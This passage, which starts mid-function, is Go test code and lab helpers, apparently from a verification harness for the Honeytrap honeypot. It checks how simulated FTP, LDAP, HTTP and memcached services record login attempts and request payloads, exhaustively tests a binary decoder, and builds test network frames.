				c.Steps = append(c.Steps, attempt{Kind: "login", User: rapid.SampledFrom(users).Draw(rt, "u"), Pass: rapid.SampledFrom(passes).Draw(rt, "p")})
			}
		case "ldap":
			c.Set = genSet(rt, true)
			n := rapid.IntRange(1, 6).Draw(rt, "nsteps")
			for i := 0; i < n; i++ {
				if rapid.IntRange(0, 2).Draw(rt, "probe") == 0 {
					c.Steps = append(c.Steps, attempt{Kind: "probe", User: rapid.SampledFrom([]string{"modify", "add", "delete", "rename", "compare"}).Draw(rt, "op")})
					continue
				}
				u := rapid.SampledFrom(users).Draw(rt, "u")
				dn := u
				if u != "" {
					dn = rapid.SampledFrom([]string{"cn=%s,dc=example,dc=com", "%s", "cn=%s", "sn=%s,ou=x", "%s,dc=example"}).Draw(rt, "dnform")
					dn = fmt.Sprintf(dn, u)
				}
				c.Steps = append(c.Steps, attempt{Kind: "login", User: u, DN: dn, Pass: rapid.SampledFrom(passes).Draw(rt, "p")})
			}
		default:
			c.Set = []cred{{"anonymous", "anonymous"}}
			n := rapid.IntRange(1, 6).Draw(rt, "nsteps")
			for i := 0; i < n; i++ {
				if rapid.IntRange(0, 2).Draw(rt, "probe") == 0 {
					c.Steps = append(c.Steps, attempt{Kind: "probe", User: rapid.SampledFrom([]string{"PWD", "MKD probe", "RMD probe", "DELE probe", "CWD /", "CDUP", "LIST", "NLST", "SIZE probe", "MDTM probe", "RNFR probe", "PASV", "TYPE I", "SYST"}).Draw(rt, "op")})
					continue
				}
				c.Steps = append(c.Steps, attempt{Kind: "login", User: rapid.SampledFrom([]string{"anonymous", "root", "admin", "ftp"}).Draw(rt, "u"), Pass: rapid.SampledFrom([]string{"anonymous", "root", "x@y", "ftp"}).Draw(rt, "p")})
			}
		}
		fp := ""
		if nontrivial(c) {
			fp = vlib.JSON(c)
		}
		r.Case("auth/"+c.Service, fp, func() interface{} { return c })
		if err := check(c); err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				rt.Fatalf("%v", err)
			}
			if strings.HasPrefix(err.Error(), "inconclusive:") {
				r.Label("inconclusive/harness-wait-expired", 1)
				return
			}
			r.Fail(rt, "TestAuth", c, "%v", err)
		}
	})
}
