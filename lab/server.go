package lab

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"sync"
	"sync/atomic"
	"time"

	"github.com/honeytrap/honeytrap/config"
	"github.com/honeytrap/honeytrap/server"
)

// Server is one running instance of the real server.Honeytrap.Run().
type Server struct {
	ID     string
	L      *MemListener
	cancel context.CancelFunc
	done   chan struct{}
}

var (
	startMu  sync.Mutex // config.Default is a package global: one start-up at a time
	serial   int64
	dataOnce sync.Once
	dataDir  string
	dataFn   server.OptionFn
	dataErr  error
)

// DataDir prepares the process-wide data directory (badger is one global per process).
func DataDir() (string, error) {
	dataOnce.Do(func() {
		base := os.Getenv("VERIF_DATADIR")
		if base == "" {
			base, dataErr = os.MkdirTemp("", "labdata")
			if dataErr != nil {
				return
			}
		}
		dataDir = base
		dataFn, dataErr = server.WithDataDir(filepath.Join(base))
	})
	return dataDir, dataErr
}

// NextID returns a process-unique identifier usable in configuration ids.
func NextID() string {
	return fmt.Sprintf("i%d", atomic.AddInt64(&serial, 1))
}

// Start runs the server with the given TOML. The configuration must name listener
// type "verif-mem" with id = the returned server's ID; use Conf() to build it.
// withToken controls whether the token option (and hence the data dir) is used.
func Start(id string, toml string, withToken bool) (*Server, error) {
	startMu.Lock()
	defer startMu.Unlock()
	config.Default = config.Config{}
	var opts []server.OptionFn
	if withToken {
		if _, err := DataDir(); err != nil {
			return nil, err
		}
		opts = append(opts, dataFn, server.WithToken())
	}
	opts = append(opts, func(h *server.Honeytrap) error {
		return config.Default.Load(bytes.NewBufferString(toml))
	})
	h, err := server.New(opts...)
	if err != nil {
		return nil, err
	}
	ctx, cancel := context.WithCancel(context.Background())
	s := &Server{ID: id, cancel: cancel, done: make(chan struct{})}
	go func() {
		defer close(s.done)
		h.Run(ctx)
	}()
	// Run builds channels, services, listener, ports, then calls listener.Start.
	deadline := time.Now().Add(60 * time.Second)
	for {
		regMu.Lock()
		l := listeners[id]
		regMu.Unlock()
		if l != nil {
			select {
			case <-l.started:
				s.L = l
				return s, nil
			default:
			}
		}
		select {
		case <-s.done:
			cancel()
			return nil, fmt.Errorf("Run returned during start-up")
		default:
		}
		if time.Now().After(deadline) {
			cancel()
			return nil, fmt.Errorf("server did not start its listener within 60s")
		}
		time.Sleep(200 * time.Microsecond)
	}
}

// Stop cancels Run and forgets the registry entries of this instance.
func (s *Server) Stop() {
	s.cancel()
	select {
	case <-s.done:
	case <-time.After(5 * time.Second):
	}
	regMu.Lock()
	delete(listeners, s.ID)
	regMu.Unlock()
}

// GetCapture / GetStub look up registry instances by id.
func GetCapture(id string) *Capture {
	regMu.Lock()
	defer regMu.Unlock()
	return captures[id]
}

func GetStub(id string) *Stub {
	regMu.Lock()
	defer regMu.Unlock()
	return stubs[id]
}

// Forget drops registry entries (long runs create many instances).
func Forget(ids ...string) {
	regMu.Lock()
	defer regMu.Unlock()
	for _, id := range ids {
		// the server instance (and through its bus the channel) may stay referenced by
		// goroutines Run leaves behind: let go of what the channel recorded
		if c := captures[id]; c != nil {
			c.mu.Lock()
			c.events = nil
			c.mu.Unlock()
		}
		delete(captures, id)
		delete(stubs, id)
		delete(listeners, id)
	}
}

// StartSocket runs the server with the real socket listener (type "socket"); there is
// no listener handle, so readiness is "Run has been given time to bind": the socket
// listener binds synchronously inside Start before Run enters its accept loop, and the
// harness dials with retry.
func StartSocket(id string, toml string) (*Server, error) {
	startMu.Lock()
	defer startMu.Unlock()
	config.Default = config.Config{}
	h, err := server.New(func(h *server.Honeytrap) error {
		return config.Default.Load(bytes.NewBufferString(toml))
	})
	if err != nil {
		return nil, err
	}
	ctx, cancel := context.WithCancel(context.Background())
	s := &Server{ID: id, cancel: cancel, done: make(chan struct{})}
	go func() {
		defer close(s.done)
		h.Run(ctx)
	}()
	// wait until every service named in the configuration has been constructed and
	// the listener had time to bind (binding happens right after the port table)
	time.Sleep(60 * time.Millisecond)
	return s, nil
}

// StartWithCapture prepends the in-memory listener, one capture channel "cap" and a
// catch-all filter to body (service and port sections) and starts the server.
func StartWithCapture(body string, withToken bool) (*Server, *Capture, error) {
	id := NextID()
	toml := fmt.Sprintf("[listener]\ntype=\"verif-mem\"\nid=%q\n\n[channel.cap]\ntype=\"verif-capture\"\nid=%q\n\n[[filter]]\nchannel=[\"cap\"]\n\n%s", id, id+"-cap", body)
	srv, err := Start(id, toml, withToken)
	if err != nil {
		return nil, nil, err
	}
	cap := GetCapture(id + "-cap")
	if cap == nil {
		srv.Stop()
		return nil, nil, fmt.Errorf("capture channel was not constructed")
	}
	return srv, cap, nil
}
