package c05

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"pgregory.net/rapid"

	"verif/lab"
	"verif/svc"
	"verif/vlib"
)

// HISTORIES on one connection: the services that answer several requests on the same
// connection (http and https keep-alive, memcached's text protocol) must record for
// every request the bytes of THAT request, whatever the earlier requests on the
// connection carried. The reference is the request list itself: every request is
// well-formed, written by this test, and identified in the event list by a unique
// url / key.
//
// What the services record (anchors: services/http.go Handle, services/memcached.go):
//   - http/https: the result of one Read of at most 1024 bytes from the request body. The
//     lab transport hands a client write to the server as one chunk and never coalesces
//     two, the service's bufio.Reader (4096 bytes) is empty when a request starts because
//     the previous request was consumed completely, so a request of <= 4096 bytes is
//     buffered whole and the Read returns min(1024, len(body)) bytes - no timing involved.
//     Longer requests: only "is a prefix of the body" is asserted.
//   - memcached storage commands: io.ReadFull of min(80, count) bytes of the data block.
type histReq struct {
	Method string `json:"method"` // http: method; memcached: command
	Body   string `json:"body_hex"`
	Pad    int    `json:"pad,omitempty"` // http: bytes of an extra header value
}

type histCase struct {
	Service  string    `json:"service"` // http | https | memcached
	Lockstep bool      `json:"lockstep"`
	Reqs     []histReq `json:"requests"`
}

func (c histCase) wire(i int) (wire []byte, id string, body []byte) {
	q := c.Reqs[i]
	body = vlib.UnHex(q.Body)
	if c.Service == "memcached" {
		id = fmt.Sprintf("k%d", i)
		switch q.Method {
		case "get", "delete":
			return []byte(q.Method + " " + id + "\r\n"), id, nil
		case "cas":
			wire = []byte(fmt.Sprintf("cas %s 0 0 %d 7\r\n", id, len(body)))
		default:
			wire = []byte(fmt.Sprintf("%s %s %d 60 %d\r\n", q.Method, id, i, len(body)))
		}
		wire = append(wire, body...)
		return append(wire, '\r', '\n'), id, body
	}
	id = fmt.Sprintf("/h%d?len=%d", i, len(body))
	var b bytes.Buffer
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: c05.example\r\n", q.Method, id)
	if q.Pad > 0 {
		fmt.Fprintf(&b, "X-Pad: %s\r\n", strings.Repeat("p", q.Pad))
	}
	if len(body) > 0 || q.Method == "POST" || q.Method == "PUT" {
		fmt.Fprintf(&b, "Content-Length: %d\r\n", len(body))
	}
	b.WriteString("\r\n")
	b.Write(body)
	return b.Bytes(), id, body
}

const histWait = 30 * time.Second

// checkHistory returns the number of requests whose event was found and compared.
func checkHistory(c histCase) (int, error) {
	in, err := svc.Shared()
	if err != nil {
		return 0, fmt.Errorf("infra: %v", err)
	}
	key := c.Service
	p := svc.PortOf(key)
	if p == nil {
		return 0, fmt.Errorf("infra: no port for %s", key)
	}
	ip, port := svc.NextClient()
	conn := in.Srv.L.DialTCP(&net.TCPAddr{IP: svc.ServerIP, Port: p.Port}, &net.TCPAddr{IP: ip, Port: port})
	type sentReq struct {
		id         string
		body       []byte
		wireLen    int
		hasPayload bool
	}
	var sent []sentReq
	note := func(i int) []byte {
		w, id, body := c.wire(i)
		hp := true
		if c.Service == "memcached" && (c.Reqs[i].Method == "get" || c.Reqs[i].Method == "delete") {
			hp = false
		}
		sent = append(sent, sentReq{id, body, len(w), hp})
		return w
	}
	if c.Service == "https" {
		// one client write = one TLS record = one segment (no dynamic record sizing)
		nc := conn.NetConn()
		nc.SetDeadline(time.Now().Add(2 * histWait))
		tc := tls.Client(nc, &tls.Config{InsecureSkipVerify: true, ServerName: "c05.example", DynamicRecordSizingDisabled: true})
		if err := tc.Handshake(); err != nil {
			conn.Reset()
			return 0, fmt.Errorf("infra: TLS handshake with the https service: %v", err)
		}
		br := bufio.NewReader(tc)
		readResp := func() bool {
			resp, err := http.ReadResponse(br, nil)
			if err != nil {
				return false
			}
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			return true
		}
		pending := 0
		for i := range c.Reqs {
			if _, err := tc.Write(note(i)); err != nil {
				sent = sent[:len(sent)-1]
				break
			}
			if c.Lockstep {
				if !readResp() {
					break
				}
			} else {
				pending++
			}
		}
		for ; pending > 0; pending-- {
			if !readResp() {
				break
			}
		}
		tc.Close()
	} else {
		for i := range c.Reqs {
			conn.Send(note(i))
			if c.Lockstep && conn.WaitIdle(histWait) != lab.Idle {
				break
			}
		}
		conn.WaitIdle(histWait)
	}
	conn.CloseWrite()
	conn.WaitClosed(histWait)
	in.Cap.Settle(4*time.Millisecond, 120*time.Millisecond)
	evs := lab.From(in.Cap.Events(), ip.String(), port)

	compared := 0
	for i, q := range sent {
		if !q.hasPayload {
			continue
		}
		var found *lab.Ev
		n := 0
		for k := range evs {
			e := evs[k]
			match := false
			if c.Service == "memcached" {
				match = e.Str("type") == "memcached-"+c.Reqs[i].Method && e.Str("memcached.key") == q.id
			} else {
				match = e.Str("category") == "http" && e.Str("http.url") == q.id
			}
			if match {
				found = &evs[k]
				n++
			}
		}
		if found == nil {
			continue // whether every request produces an event is C04's subject
		}
		if n > 1 {
			return compared, fmt.Errorf("%s request %d (%s) produced %d events", c.Service, i, q.id, n)
		}
		e := *found
		if e.SerErr != "" {
			return compared, fmt.Errorf("%s event of request %d cannot be serialised by the channels: %s", c.Service, i, e.SerErr)
		}
		if !e.Has("payload-hex") || !e.Has("payload-length") {
			return compared, fmt.Errorf("%s event of request %d has no payload-hex / payload-length; event=%s", c.Service, i, e.Canon("payload", "stacktrace"))
		}
		raw, err := hex.DecodeString(e.Str("payload-hex"))
		if err != nil {
			return compared, fmt.Errorf("%s event of request %d has an undecodable payload-hex %q", c.Service, i, e.Str("payload-hex"))
		}
		if e.Str("payload-length") != fmt.Sprint(len(raw)) {
			return compared, fmt.Errorf("%s event of request %d: payload-length=%s but payload-hex decodes to %d bytes", c.Service, i, e.Str("payload-length"), len(raw))
		}
		if ps, ok := e.M["payload"].(string); ok && !bytes.Equal([]byte(ps), raw) {
			return compared, fmt.Errorf("%s event of request %d: payload and payload-hex differ", c.Service, i)
		}
		limit, exact := 1024, q.wireLen <= 4096
		if c.Service == "memcached" {
			limit, exact = 80, true
		}
		want := q.body
		if len(want) > limit {
			want = want[:limit]
		}
		if !bytes.HasPrefix(want, raw) {
			return compared, fmt.Errorf("%s request %d of %d on the connection (%s, %d body bytes): recorded payload %q (%d bytes) is not the start of the bytes received %q", c.Service, i+1, len(sent), c.Reqs[i].Method, len(q.body), clipS(string(raw)), len(raw), clipS(string(want)))
		}
		if exact && len(raw) != len(want) {
			return compared, fmt.Errorf("%s request %d of %d on the connection (%s, %d body bytes received in one segment): payload-hex decodes to %d bytes and payload-length=%s, the service records the first %d bytes, i.e. %d here (earlier bodies on this connection: %s)", c.Service, i+1, len(sent), c.Reqs[i].Method, len(q.body), len(raw), e.Str("payload-length"), limit, len(want), func() string {
				var out []string
				for _, s := range sent[:i] {
					out = append(out, fmt.Sprint(len(s.body)))
				}
				return "[" + strings.Join(out, " ") + "]"
			}())
		}
		if e.Str("destination-port") != fmt.Sprint(p.Port) || e.Str("destination-ip") != svc.ServerIP.String() {
			return compared, fmt.Errorf("%s event of request %d: destination %s:%s, connection's is %s:%d", c.Service, i, e.Str("destination-ip"), e.Str("destination-port"), svc.ServerIP, p.Port)
		}
		if e.Str("source-port") != fmt.Sprint(port) || e.Str("source-ip") != ip.String() {
			return compared, fmt.Errorf("%s event of request %d: source %s:%s, connection's is %s:%d", c.Service, i, e.Str("source-ip"), e.Str("source-port"), ip, port)
		}
		compared++
	}
	return compared, nil
}

func genBody(rt *rapid.T) []byte {
	var n int
	switch rapid.IntRange(0, 3).Draw(rt, "lenkind") {
	case 0:
		n = rapid.SampledFrom([]int{0, 1, 2, 79, 80, 81, 1023, 1024, 1025, 3000, 3900, 5000}).Draw(rt, "blen")
	case 1:
		n = rapid.IntRange(0, 12).Draw(rt, "blen")
	default:
		n = rapid.IntRange(0, 1500).Draw(rt, "blen")
	}
	seed := rapid.SliceOfN(rapid.Byte(), 1, 8).Draw(rt, "pat")
	b := make([]byte, n)
	for i := range b {
		b[i] = seed[i%len(seed)] + byte(i/len(seed))
	}
	return b
}

func TestServiceHistories(t *testing.T) {
	r := vlib.Open(prop)
	var hc histCase
	if vlib.ReplayCase("TestServiceHistories", &hc) {
		if _, err := checkHistory(hc); err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				t.Fatalf("%v", err)
			}
			r.Violation(t, "TestServiceHistories", hc, err.Error())
		}
		return
	}
	r.Rule("request histories on one connection: 2..5 well-formed requests on one keep-alive connection of http, https (real TLS client) and memcached/tcp, bodies of arbitrary bytes with lengths around the services' record limits (80, 1024) and the 4096-byte read buffer, requests with and without a body in any order (GET then POST, shorter before longer and the reverse), lock-step or pipelined; the event of every request (found by its unique url / key) must carry exactly the first min(limit, len) body bytes of that request in payload-hex / payload / payload-length and the connection's addresses; non-trivial = >=2 events compared and some later request has a longer body than an earlier one")
	r.Rapid(t, "TestServiceHistories", r.Pick(240, 4000), func(rt *rapid.T) {
		c := histCase{
			Service:  rapid.SampledFrom([]string{"http", "http", "https", "memcached"}).Draw(rt, "service"),
			Lockstep: rapid.IntRange(0, 3).Draw(rt, "pipelined") != 0,
		}
		n := rapid.IntRange(2, 5).Draw(rt, "nreq")
		grows := false
		maxEarlier := -1
		for i := 0; i < n; i++ {
			var q histReq
			var body []byte
			if c.Service == "memcached" {
				q.Method = rapid.SampledFrom([]string{"set", "set", "add", "replace", "append", "prepend", "cas", "get", "delete"}).Draw(rt, "cmd")
				if q.Method != "get" && q.Method != "delete" {
					body = genBody(rt)
				}
			} else {
				q.Method = rapid.SampledFrom([]string{"GET", "POST", "POST", "PUT", "DELETE", "HEAD", "OPTIONS"}).Draw(rt, "method")
				switch q.Method {
				case "POST", "PUT":
					body = genBody(rt)
				case "GET", "DELETE":
					if rapid.IntRange(0, 3).Draw(rt, "getbody") == 0 {
						body = genBody(rt)
					}
				}
				if rapid.IntRange(0, 3).Draw(rt, "padded") == 0 {
					q.Pad = rapid.SampledFrom([]int{1, 900, 2900, 3900}).Draw(rt, "pad")
				}
			}
			q.Body = vlib.Hex(body)
			if maxEarlier >= 0 && len(body) > 0 {
				// a later body that is longer than some earlier one (incl. after none at all)
				if minBody(c.Reqs) < len(body) {
					grows = true
				}
			}
			maxEarlier = i
			c.Reqs = append(c.Reqs, q)
		}
		compared, err := checkHistory(c)
		fp := ""
		if compared >= 2 && grows {
			fp = vlib.JSON(c)
		}
		shape := "other"
		if grows {
			shape = "growing"
		}
		r.Case("histories/"+c.Service+"/"+shape, fp, func() interface{} {
			return map[string]interface{}{"service": c.Service, "requests": len(c.Reqs), "compared": compared, "lockstep": c.Lockstep}
		})
		if err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				rt.Fatalf("%v", err)
			}
			r.Fail(rt, "TestServiceHistories", c, "%v", err)
		}
	})
}

func minBody(reqs []histReq) int {
	m := 1 << 30
	for _, q := range reqs {
		if n := len(q.Body) / 2; n < m {
			m = n
		}
	}
	return m
}
