package c17

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"testing"

	"github.com/honeytrap/honeytrap/services/decoder"
	"pgregory.net/rapid"

	"verif/vlib"
)

const prop = "C17"

func TestMain(m *testing.M) { vlib.Main(m, prop) }

// op codes
const (
	opByte = iota
	opInt16
	opInt32
	opUint32
	opPeekByte
	opPeekInt16
	opData
	opCopy // + arg
	opSeek // + arg
)

type op struct {
	Kind int `json:"kind"`
	Arg  int `json:"arg"`
}

func (o op) String() string {
	names := []string{"Byte", "Int16", "Int32", "Uint32", "PeekByte", "PeekInt16", "Data", "Copy", "Seek"}
	if o.Kind >= opCopy {
		return fmt.Sprintf("%s(%d)", names[o.Kind], o.Arg)
	}
	return names[o.Kind]
}

type decCase struct {
	Buf string `json:"buf_hex"`
	Ops []op   `json:"ops"`
}

// reference model: a cursor over a slice
type refDec struct {
	data []byte
	off  int
	err  bool
}

func (m *refDec) fits(n int) bool { return n >= 0 && m.off+n <= len(m.data) }

// step executes one operation on both and compares. Returns a description of the first
// disagreement.
func step(d *decoder.Decode, m *refDec, o op) (msg string) {
	defer func() {
		if r := recover(); r != nil {
			msg = fmt.Sprintf("%v panicked: %v", o, r)
		}
	}()
	num := func(size int, get func() uint64, want func([]byte) uint64, consume bool) string {
		got := get()
		if m.fits(size) {
			w := want(m.data[m.off:])
			if got != w {
				return fmt.Sprintf("%v returned %#x, big-endian value at cursor %d is %#x", o, got, m.off, w)
			}
			if consume {
				m.off += size
			}
		} else {
			m.err = true
			if got != 0 {
				return fmt.Sprintf("%v returned %#x although only %d bytes remain (must be 0)", o, got, len(m.data)-m.off)
			}
		}
		return ""
	}
	switch o.Kind {
	case opByte:
		msg = num(1, func() uint64 { return uint64(d.Byte()) }, func(b []byte) uint64 { return uint64(b[0]) }, true)
	case opPeekByte:
		msg = num(1, func() uint64 { return uint64(d.PeekByte()) }, func(b []byte) uint64 { return uint64(b[0]) }, false)
	case opInt16:
		msg = num(2, func() uint64 { return uint64(uint16(d.Int16())) }, func(b []byte) uint64 { return uint64(binary.BigEndian.Uint16(b)) }, true)
	case opPeekInt16:
		msg = num(2, func() uint64 { return uint64(uint16(d.PeekInt16())) }, func(b []byte) uint64 { return uint64(binary.BigEndian.Uint16(b)) }, false)
	case opInt32:
		msg = num(4, func() uint64 { return uint64(uint32(d.Int32())) }, func(b []byte) uint64 { return uint64(binary.BigEndian.Uint32(b)) }, true)
	case opUint32:
		msg = num(4, func() uint64 { return uint64(d.Uint32()) }, func(b []byte) uint64 { return uint64(binary.BigEndian.Uint32(b)) }, true)
	case opCopy:
		got := d.Copy(o.Arg)
		if m.fits(o.Arg) {
			w := m.data[m.off : m.off+o.Arg]
			if got == nil && o.Arg > 0 || !bytes.Equal(got, w) {
				return fmt.Sprintf("%v returned %x, bytes at cursor are %x", o, got, w)
			}
			m.off += o.Arg
		} else {
			m.err = true
			if len(got) != 0 {
				return fmt.Sprintf("%v returned %x although it does not fit", o, got)
			}
		}
	case opSeek:
		d.Seek(o.Arg)
		if n := m.off + o.Arg; n >= 0 && n <= len(m.data) {
			m.off = n
		} else {
			m.err = true
		}
	case opData:
		// composite: 16-bit big-endian length prefix (unsigned, as the encoder writes it
		// and as IPP defines it), then that many bytes
		got := d.Data()
		l := 0
		if m.fits(2) {
			l = int(binary.BigEndian.Uint16(m.data[m.off:]))
			m.off += 2
		} else {
			m.err = true
		}
		if m.fits(l) {
			w := m.data[m.off : m.off+l]
			if got != string(w) {
				return fmt.Sprintf("Data returned %x, want %x", got, w)
			}
			m.off += l
		} else {
			m.err = true
			if got != "" {
				return fmt.Sprintf("Data returned %x although the announced %d bytes do not fit", got, l)
			}
		}
	}
	if msg != "" {
		return msg
	}
	if a := d.Available(); a != len(m.data)-m.off {
		return fmt.Sprintf("after %v Available()=%d, reference cursor says %d (len %d, offset %d)", o, a, len(m.data)-m.off, len(m.data), m.off)
	}
	if a := d.Available(); a < 0 || a > len(m.data) {
		return fmt.Sprintf("after %v Available()=%d outside [0,%d]", o, a, len(m.data))
	}
	if (d.LastError() != nil) != m.err {
		return fmt.Sprintf("after %v LastError()=%v, reference says error recorded=%v", o, d.LastError(), m.err)
	}
	return ""
}

func runSeq(buf []byte, ops []op) string {
	d := decoder.NewDecoder(buf)
	m := &refDec{data: buf}
	for i, o := range ops {
		if msg := step(d, m, o); msg != "" {
			return fmt.Sprintf("op %d: %s", i, msg)
		}
	}
	return ""
}

var allOps = func() []op {
	var out []op
	for k := opByte; k <= opData; k++ {
		out = append(out, op{Kind: k})
	}
	for n := -3; n <= 8; n++ {
		out = append(out, op{opCopy, n}, op{opSeek, n})
	}
	return out
}()

// buffer shapes: every length 0..6 with contents chosen so that reads return
// distinguishable values and length prefixes hit 0, 1, 2, 4, 0x7fff, 0x8000, 0xffff
func bufferShapes() [][]byte {
	var out [][]byte
	prefixes := [][]byte{{0x01, 0x02}, {0x00, 0x00}, {0x00, 0x01}, {0x00, 0x02}, {0x00, 0x04}, {0x7f, 0xff}, {0x80, 0x00}, {0xff, 0xff}}
	for l := 0; l <= 6; l++ {
		for _, p := range prefixes {
			b := make([]byte, l)
			for i := range b {
				b[i] = byte(0xa0 + i)
			}
			copy(b, p)
			dup := false
			for _, o := range out {
				if bytes.Equal(o, b) {
					dup = true
				}
			}
			if !dup {
				out = append(out, b)
			}
		}
	}
	return out
}

func nontrivialSeq(buf []byte, ops []op) bool {
	// a failing read followed by a successful one, or a negative / oversized argument
	m := &refDec{data: buf}
	failed := false
	for _, o := range ops {
		if o.Kind >= opCopy && (o.Arg < 0 || o.Arg > len(buf)) {
			return true
		}
		size := map[int]int{opByte: 1, opInt16: 2, opInt32: 4, opUint32: 4, opPeekByte: 1, opPeekInt16: 2}
		if s, ok := size[o.Kind]; ok {
			if m.fits(s) {
				if failed {
					return true
				}
				if o.Kind != opPeekByte && o.Kind != opPeekInt16 {
					m.off += s
				}
			} else {
				failed = true
			}
		} else if o.Kind == opCopy && m.fits(o.Arg) {
			m.off += o.Arg
		} else if o.Kind == opSeek {
			if n := m.off + o.Arg; n >= 0 && n <= len(buf) {
				m.off = n
			}
		} else if o.Kind == opData {
			return true
		}
	}
	return false
}

func TestDecoderExhaustive(t *testing.T) {
	r := vlib.Open(prop)
	var dc decCase
	if vlib.ReplayCase("TestDecoderExhaustive", &dc) {
		if msg := runSeq(vlib.UnHex(dc.Buf), dc.Ops); msg != "" {
			r.Violation(t, "TestDecoderExhaustive", dc, msg)
		}
		return
	}
	if vlib.Replaying() {
		return
	}
	depth := r.Pick(4, 5)
	r.Rule(fmt.Sprintf("decoder: all buffers of length 0..6 (length-prefix shapes 0,1,2,4,0x7fff,0x8000,0xffff) x ALL operation sequences of length <= %d over {Byte,Int16,Int32,Uint32,PeekByte,PeekInt16,Data,Copy(n),Seek(n)} n in -3..8, stepped against a slice-cursor reference model; non-trivial = failing read followed by a successful one, or negative/oversized argument, or Data; distinct by construction", depth))
	shapes := bufferShapes()
	si, sn := r.Shard()
	var n, nt int64
	seq := make([]op, 0, depth)
	var bad *decCase
	var badMsg string
	var rec func(buf []byte, d int) bool
	rec = func(buf []byte, d int) bool {
		if d > 0 {
			n++
			if nontrivialSeq(buf, seq) {
				nt++
			}
			if msg := runSeq(buf, seq); msg != "" {
				bad = &decCase{vlib.Hex(buf), append([]op(nil), seq...)}
				badMsg = msg
				return false
			}
		}
		if d == depth {
			return true
		}
		for _, o := range allOps {
			seq = append(seq, o)
			ok := rec(buf, d+1)
			seq = seq[:len(seq)-1]
			if !ok {
				return false
			}
		}
		return true
	}
	for i, b := range shapes {
		if i%sn != si {
			continue
		}
		if !rec(b, 0) {
			break
		}
	}
	r.Bulk(fmt.Sprintf("decoder/exhaustive-depth<=%d", depth), n, nt)
	r.Sample("decoder/exhaustive", decCase{"ffffa2a3", []op{{opData, 0}, {opByte, 0}, {opSeek, -1}, {opCopy, 8}}})
	if bad != nil {
		// report the shortest failing prefix
		ops := bad.Ops
		for k := 1; k <= len(ops); k++ {
			if msg := runSeq(vlib.UnHex(bad.Buf), ops[:k]); msg != "" {
				bad.Ops = ops[:k]
				badMsg = msg
				break
			}
		}
		r.Violation(t, "TestDecoderExhaustive", *bad, badMsg)
		return
	}
	r.Exhaustive(fmt.Sprintf("all operation sequences of length <= %d over 31 operations on %d buffer shapes of length 0..6", depth, len(shapes)))
}

func TestDecoderSampled(t *testing.T) {
	r := vlib.Open(prop)
	var dc decCase
	if vlib.ReplayCase("TestDecoderSampled", &dc) {
		if msg := runSeq(vlib.UnHex(dc.Buf), dc.Ops); msg != "" {
			r.Violation(t, "TestDecoderSampled", dc, msg)
		}
		return
	}
	r.Rule("decoder sampled: buffers 0..70000 bytes, sequences of 1..40 operations with arguments incl. negative, huge (2^31, 2^62) and exact-fit values")
	r.Rapid(t, "TestDecoderSampled", r.Pick(20000, 300000), func(rt *rapid.T) {
		l := rapid.OneOf(rapid.IntRange(0, 16), rapid.IntRange(0, 300), rapid.SampledFrom([]int{32766, 32767, 32768, 32769, 65535, 65536, 65537, 70000})).Draw(rt, "len")
		buf := make([]byte, l)
		fill := rapid.SliceOfN(rapid.Byte(), 1, 8).Draw(rt, "fill")
		for i := range buf {
			buf[i] = fill[i%len(fill)]
		}
		nops := rapid.IntRange(1, 40).Draw(rt, "nops")
		var ops []op
		for i := 0; i < nops; i++ {
			k := rapid.IntRange(opByte, opSeek).Draw(rt, "kind")
			o := op{Kind: k}
			if k >= opCopy {
				o.Arg = rapid.OneOf(rapid.IntRange(-5, 20), rapid.SampledFrom([]int{l, l + 1, l - 1, -l, 1 << 31, -(1 << 31), 1 << 62, -(1 << 62), 32768, 65535}), rapid.IntRange(0, 70000)).Draw(rt, "arg")
			}
			ops = append(ops, o)
		}
		fp := ""
		if nontrivialSeq(buf, ops) {
			fp = fmt.Sprint(l, fill, ops)
		}
		r.Case("decoder/sampled", fp, func() interface{} { return map[string]interface{}{"len": l, "fill": vlib.Hex(fill), "ops": fmt.Sprint(ops)} })
		if msg := runSeq(buf, ops); msg != "" {
			r.Fail(rt, "TestDecoderSampled", decCase{vlib.Hex(buf), ops}, "%s", msg)
		}
	})
}
