package canarylab

import (
	"fmt"
	"net"
	"sync"
)

// Local describes the interface the hooked canaries are bound to: it must exist in
// this machine because the listener decides "is this packet for me" by asking the
// kernel for the addresses of its interfaces.
type Local struct {
	Name string
	IP   IP4
	MAC  MAC
}

// FindLocal picks a non-loopback interface with an IPv4 address and a hardware address
// when there is one, else the loopback interface.
func FindLocal() (Local, error) {
	ifs, err := net.Interfaces()
	if err != nil {
		return Local{}, err
	}
	var lo *Local
	for _, intf := range ifs {
		addrs, _ := intf.Addrs()
		for _, a := range addrs {
			n, ok := a.(*net.IPNet)
			if !ok || n.IP.To4() == nil {
				continue
			}
			l := Local{Name: intf.Name}
			copy(l.IP[:], n.IP.To4())
			copy(l.MAC[:], intf.HardwareAddr)
			if intf.Flags&net.FlagLoopback == 0 && len(intf.HardwareAddr) == 6 {
				return l, nil
			}
			if lo == nil {
				lo = &l
			}
		}
	}
	if lo != nil {
		return *lo, nil
	}
	return Local{}, fmt.Errorf("no interface with an IPv4 address")
}

// Peer is a station on the wire talking to the listener.
type Peer struct {
	IP  IP4
	MAC MAC
}

// IPFrame wraps an L4 payload from p to the local address into IPv4 + Ethernet.
func (l Local) IPFrame(p Peer, proto byte, id uint16, l4 []byte) []byte {
	return Eth(l.MAC, p.MAC, EtherIPv4, IPv4(IPv4Fields{IHL: -1, TotalLen: -1, Proto: proto, ID: id, Src: p.IP, Dst: l.IP}, l4))
}

func (l Local) TCPFrame(p Peer, f TCPFields) []byte {
	return l.IPFrame(p, ProtoTCP, uint16(f.Seq), TCP(p.IP, l.IP, f))
}

func (l Local) UDPFrame(p Peer, sport, dport uint16, payload []byte) []byte {
	return l.IPFrame(p, ProtoUDP, sport, UDP(p.IP, l.IP, sport, dport, -1, payload))
}

func (l Local) ICMPFrame(p Peer, id, seq uint16, payload []byte) []byte {
	return l.IPFrame(p, ProtoICMP, seq, ICMPEcho(id, seq, payload))
}

